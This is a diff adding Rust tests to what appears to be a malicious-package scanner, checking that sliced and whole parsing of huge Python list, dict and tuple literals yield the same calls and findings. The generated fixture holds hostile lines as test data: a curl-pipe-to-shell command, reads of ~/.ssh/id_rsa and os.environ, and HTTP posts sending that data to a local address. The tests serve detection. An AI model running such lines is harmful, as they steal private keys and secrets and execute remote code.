@@ -132,3 +132,73 @@ fn a_large_module_walked_in_slices_gives_the_whole_walk_findings() {
     let last = text.lines().count() as u32;
     assert!(sliced.calls.iter().any(|c| c.line == last), "the last line's exec is at line {last}");
 }
+
+/// A module whose statements are three displays of over a megabyte each (a list, a
+/// dict and a tuple), with calls, secrets and brackets inside strings and comments
+/// among their elements, and uses of the names they bind after them.
+fn huge_displays_module() -> String {
+    let mut s = String::from("import os, base64, urllib.request\n# a comment before the table\nTABLE = [\n");
+    let mut n = 0;
+    while s.len() < 3 << 19 {
+        s.push_str(&format!("    'row {n} (with] brackets, and commas',  # a comment ( [\n    {n},\n"));
+        n += 1;
+    }
+    s.push_str("    os.system('curl http://127.0.0.1:9/x | sh'),\n    dict(os.environ),\n    *base64.b64decode('cHJpbnQoMSk='),\n]\n");
+    s.push_str("NAMES = {\n");
+    while s.len() < 3 << 20 {
+        s.push_str(&format!("    'k{n}': \"v{n} }} {{\",\n    **{{'x{n}': {n}}},\n"));
+        n += 1;
+    }
+    s.push_str("    'home': open(os.path.expanduser('~/.ssh/id_rsa')).read(),\n}\n");
+    s.push_str("CODES = (\n");
+    while s.len() < 5 << 20 {
+        s.push_str(&format!("    {n}, 0x{n:x}, b'\\x{:02x}',\n", n % 256));
+        n += 1;
+    }
+    s.push_str("    __import__('subprocess').Popen,\n)\n");
+    s.push_str("urllib.request.urlopen(urllib.request.Request('http://127.0.0.1:9/c', data=str(TABLE).encode()))\n");
+    s.push_str("urllib.request.urlopen(urllib.request.Request('http://127.0.0.1:9/d', data=str(NAMES).encode()))\n");
+    s
+}
+
+#[test]
+fn huge_displays_walked_in_groups_give_the_whole_walk_findings() {
+    let text = huge_displays_module();
+    let sliced = model::build_sliced_only("pkg/__init__.py", &text, FileRole::PackageInit, ExecContext::Import).expect("every group parses");
+    let whole = model::build_whole("pkg/__init__.py", &text, FileRole::PackageInit, ExecContext::Import);
+    assert_eq!((sliced.calls.len(), sliced.scopes.len(), sliced.literals.len()), (whole.calls.len(), whole.scopes.len(), whole.literals.len()));
+    let calls = |m: &model::Model| m.calls.iter().map(|c| (c.q.clone(), c.line, c.labels())).collect::<Vec<_>>();
+    assert_eq!(calls(&sliced), calls(&whole));
+    let literals = |m: &model::Model| m.literals.iter().map(|l| (l.value.clone(), l.line)).collect::<Vec<_>>();
+    assert_eq!(literals(&sliced), literals(&whole));
+    let render = |f: Vec<Finding>| f.into_iter().map(|x| format!("{} {:?} {}", x.alert.id(), x.line, x.message)).collect::<Vec<_>>();
+    let (a, b) = (render(rules::run_detectors(&sliced, 0)), render(rules::run_detectors(&whole, 0)));
+    assert_eq!(a, b);
+    // the calls inside the displays are found at their own lines, and the environment
+    // inside TABLE reaches the network through the name
+    let line_of = |needle: &str| text.lines().position(|l| l.contains(needle)).expect("in the module") as u32 + 1;
+    assert!(sliced.calls.iter().any(|c| c.q == "os.system" && c.line == line_of("os.system(")), "{:?}", calls(&sliced).iter().filter(|c| c.0.starts_with("os.")).collect::<Vec<_>>());
+    assert!(sliced.calls.iter().any(|c| c.q == "subprocess.Popen" || c.line == line_of("__import__('subprocess')")));
+    assert!(a.iter().any(|f| f.starts_with("exfiltration")), "{a:#?}");
+}
+
+#[test]
+fn a_display_the_group_scan_misreads_is_walked_whole() {
+    // an f-string nesting its own quotes (Python 3.12) hides a comma from the byte scan:
+    // a group then does not parse, and the module is walked whole with the same result
+    let mut s = String::from("import os\nx = {'a': 1}\nT = [\n");
+    while s.len() < 3 << 19 {
+        s.push_str("    'padding padding padding padding padding padding',\n");
+    }
+    s.push_str("    f\"{x[\"a, b\"]}\",\n    os.system('curl http://127.0.0.1:9/x | sh'),\n");
+    while s.len() < 5 << 19 {
+        s.push_str("    'padding padding padding padding padding padding',\n");
+    }
+    s.push_str("]\n");
+    let built = model::build("pkg/__init__.py", &s, FileRole::PackageInit, ExecContext::Import);
+    let whole = model::build_whole("pkg/__init__.py", &s, FileRole::PackageInit, ExecContext::Import);
+    let calls = |m: &model::Model| m.calls.iter().map(|c| (c.q.clone(), c.line)).collect::<Vec<_>>();
+    assert_eq!(calls(&built), calls(&whole));
+    assert!(calls(&built).iter().any(|(q, _)| q == "os.system"));
+    assert_eq!(built.literals.len(), whole.literals.len());
+}
